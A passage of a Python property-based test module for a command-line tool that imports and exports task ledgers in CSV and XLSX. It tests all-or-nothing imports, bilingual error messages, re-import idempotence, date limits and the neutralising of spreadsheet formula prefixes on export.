    if case.bad_bytes is not None:  # undecodable: one line naming the file
        event("refused: not decodable")
        assert_refused(result, lang, before, after)
        assert result.code == 2 and name in result.err, result.err
        return

    expected = {num: case.problems(row) for num, row in zip(case.numbers(), case.rows, strict=True)}
    bad = {num: k for num, k in expected.items() if k}
    if bad:
        event("refused: bad rows")
        assert result.code == 2, (bad, result.code, result.out, result.err)
        assert result.out == ""
        *row_lines, summary = result.err.splitlines()
        rows_word = "行有误" if lang == "zh" else "row(s) invalid"
        assert summary.startswith(prefix(lang)) and name in summary and rows_word in summary, summary
        if lang == "en":
            assert (
                f"{name}: {len(bad)} row(s) invalid ({sum(bad.values())} problem(s)); nothing was imported" in summary
            )
        assert len(row_lines) == sum(bad.values()), result.err
        mark = (lambda r: f"{name} 第 {r} 行") if lang == "zh" else (lambda r: f"{name}: row {r}, ")
        for num, k in bad.items():
            assert sum(line.startswith(mark(num)) for line in row_lines) == k, (num, result.err)
        assert delta(before, after) == {}
        return

    assert_clean_success(result)
    rows = len(case.rows)
    event(f"imported: {'none' if not rows else 'some'}{' (dry run)' if dry_run else ''}")
    if dry_run:
        assert delta(before, after) == {}
        assert (f"将导入 {rows} 项" if lang == "zh" else f"would import {rows} task(s)") in result.out, result.out
        return
    assert (f"已导入 {rows} 项" if lang == "zh" else f"imported {rows} task(s)") in result.out, result.out
    changed = delta(before, after)
    assert set(changed) <= {"tasks", "events", "code_sequences", "chain_head", "notifications"}, set(changed)
    new_tasks = changed.get("tasks", ([], []))
    assert new_tasks[0] == [] and len(new_tasks[1]) == rows
    assert len(changed.get("events", ([], []))[1]) == rows
    stored = desk.rows("SELECT problem FROM tasks ORDER BY id DESC LIMIT :n", n=rows) if rows else []
    assert sorted(r.problem for r in stored) == sorted(case.read_as(row["problem"]).strip() for row in case.rows)

    again = call(*import_args(desk, lang, path))
    assert_clean_success(again)
    assert delta(after, desk.snapshot()) == {}, "a second import of the same file wrote something"
    if rows:
        assert (f"{rows} 行此前已导入" if lang == "zh" else f"{rows} row(s) were imported before") in again.out


@settings(FAST, max_examples=100)
@given(case=ledgers(), lang=LANG, dry_run=st.integers(0, 4).map(lambda n: n == 0))
def test_csv_ledgers_import_whole_or_not_at_all(
    call: Call, desk: Desk, tmp_path: Path, case: LedgerCase, lang: str, dry_run: bool
) -> None:
    check_import(call, desk, case, lang, dry_run and case.bad_bytes is None, tmp_path)


@settings(FAST, max_examples=30)
@given(case=ledgers(xlsx=True), lang=LANG)
def test_xlsx_ledgers_import_whole_or_not_at_all(
    call: Call, desk: Desk, tmp_path: Path, case: LedgerCase, lang: str
) -> None:
    check_import(call, desk, case, lang, False, tmp_path)


def test_the_generated_headers_mean_what_the_generator_thinks() -> None:
    """Each header variant reads as its field, and the junk columns as no field at all."""
    vocabulary = Vocabulary()
    assert all(vocabulary.field_of(h) is None for h in JUNK_HEADERS)
    for key in FIELDS_USED:
        assert all(vocabulary.field_of(word) == key for word in FIELDS[key][1]), key


# --- exports of hostile text are safe to open --------------------------------------------------------


# No tab: a tab in a problem's first line reaches the derived title, which then cannot be imported back
# (test_an_imported_title_keeps_to_the_title_rules, a pinned bug).
EXPORTABLE_PROBLEMS = file_text(max_long=3900, drop=f"{XLSX_ILLEGAL}|{MULTI_LINE_CONTROL}|\t")


@settings(FAST, max_examples=15)
@given(
    problems=st.lists(
        st.one_of(st.sampled_from(FORMULAS[:6]), EXPORTABLE_PROBLEMS),
        min_size=1,
        max_size=5,
    ),
    category=st.sampled_from(FORMULAS[:6] + ["民生问题"]),
)
def test_export_neutralises_formula_prefixes_and_reimports_as_nothing_new(
    call: Call, desk: Desk, tmp_path: Path, problems: list[str], category: str
) -> None:
    rows = [[f"{p}§{i}", "1. 排查\n2. 维修", "张伟", UNIT, "2026-10-09", category] for i, p in enumerate(problems)]
    rows = [r for r in rows if acceptable(r[0], 4000, multiline=True) and trimmed(r[0])]
    header = ["序号", "问题", "整改措施", "责任领导", "责任单位", "整改时限", "问题类别"]
    assume(rows and commas_win([header, *rows]))
    n = next(desk.counter)
    source = tmp_path / f"in{n}.csv"
    buffer = io.StringIO()
    csv.writer(buffer).writerow(header)
    csv.writer(buffer).writerows([[str(i + 1), *r] for i, r in enumerate(rows)])
    source.write_text(buffer.getvalue(), encoding="utf-8")
    imported = call(*import_args(desk, "en", source))
    assert_clean_success(imported)

    xlsx, csv_out = tmp_path / f"out{n}.xlsx", tmp_path / f"out{n}.csv"
    for out in (xlsx, csv_out):
        assert_clean_success(call("--db", desk.db, "export", "-o", str(out)))
    book = load_workbook(xlsx)
    sheet = book.worksheets[0]
    texts = []
    for line in sheet.iter_rows():
        for cell in line:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                texts.append(cell.value)
                assert cell.data_type == "s"
                if cell.value.startswith(DANGEROUS_START):
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
    with csv_out.open(encoding="utf-8-sig", newline="") as fh:
        cells = [c for line in csv.reader(fh) for c in line]
    for c in cells:
        assert not c.startswith(DANGEROUS_START), c
    for r in rows:
        problem = trimmed(r[0])
        assert problem in texts
        if problem.startswith(DANGEROUS_START):
            assert "'" + problem in cells

    before = desk.snapshot()
    for exported in (csv_out, xlsx):
        again = call(*import_args(desk, "en", exported))
        assert_clean_success(again)
        assert "imported 0 task(s)" in again.out
    assert delta(before, desk.snapshot()) == {}


# --- known bugs, pinned (see the module docstring) ------------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [
        ["report", "--from", "1000-01-01", "--to", "2026-09-01"],
        ["report", "--as-of", "0001-01-05"],
        ["report", "--period", "quarter", "--as-of", "0001-03-01"],
        ["report", "--period", "year", "--as-of", "0001-12-31"],
        ["audit", "log", "--since", "0001-01-01"],
        ["export", "-o", "{tmp}/x.csv", "--as-of", "9999-12-31"],
    ],
    ids=[
        "report-from-1000",
        "report-as-of-year-1",
        "report-quarter-year-1",
        "report-year-1",
        "audit-since-1",
        "export-9999",
    ],
)
def test_far_dates_are_refused_cleanly(call: Call, desk: Desk, tmp_path: Path, args: list[str]) -> None:
    before = desk.snapshot()
    result = call("--db", desk.db, *[a.replace("{tmp}", str(tmp_path)) for a in args])
    assert result.code in (0, 2), result.err
    if result.code == 2:
        assert_refused(result, "en", before, desk.snapshot())


def test_semicolons_in_a_quoted_cell_do_not_change_the_delimiter(call: Call, desk: Desk, tmp_path: Path) -> None:
    path = tmp_path / "台账.csv"
    path.write_text(
        '序号,问题,整改措施,责任领导,责任单位\n1,路灯损坏,"排查;报修;维修;更换;巡查;回访",张伟,社会事务科\n',
        encoding="utf-8",
    )
    result = call(*import_args(desk, "en", path))
    assert result.code == 0 and "imported 1 task(s)" in result.out, result.err


def test_semicolons_in_unquoted_cells_do_not_change_the_delimiter(call: Call, desk: Desk, tmp_path: Path) -> None:
    """More semicolons on a row (in its text cells) than it has commas: the rows still agree on the commas."""
    path = tmp_path / "台账.csv"
    row = "{n},路灯损坏{n};夜间照明不足;影响出行,排查;报修;维修;更换,张伟,社会事务科,已督办;待复核\n"
    path.write_text("序号,问题,整改措施,责任领导,责任单位,备注\n" + row.format(n=1) + row.format(n=2), encoding="utf-8")
    result = call(*import_args(desk, "en", path))
    assert result.code == 0 and "imported 2 task(s)" in result.out, result.err


def test_an_imported_title_keeps_to_the_title_rules(call: Call, desk: Desk, tmp_path: Path) -> None:
    source = tmp_path / "in.csv"
    source.write_text("序号,问题,责任领导,责任单位\n1,路灯\t损坏的问题,张伟,社会事务科\n", encoding="utf-8")
    assert_clean_success(call(*import_args(desk, "en", source)))
    exported = tmp_path / "out.csv"
    assert_clean_success(call("--db", desk.db, "export", "-o", str(exported)))
    again = call(*import_args(desk, "en", exported))
    assert again.code == 0 and "imported 0 task(s)" in again.out, again.err
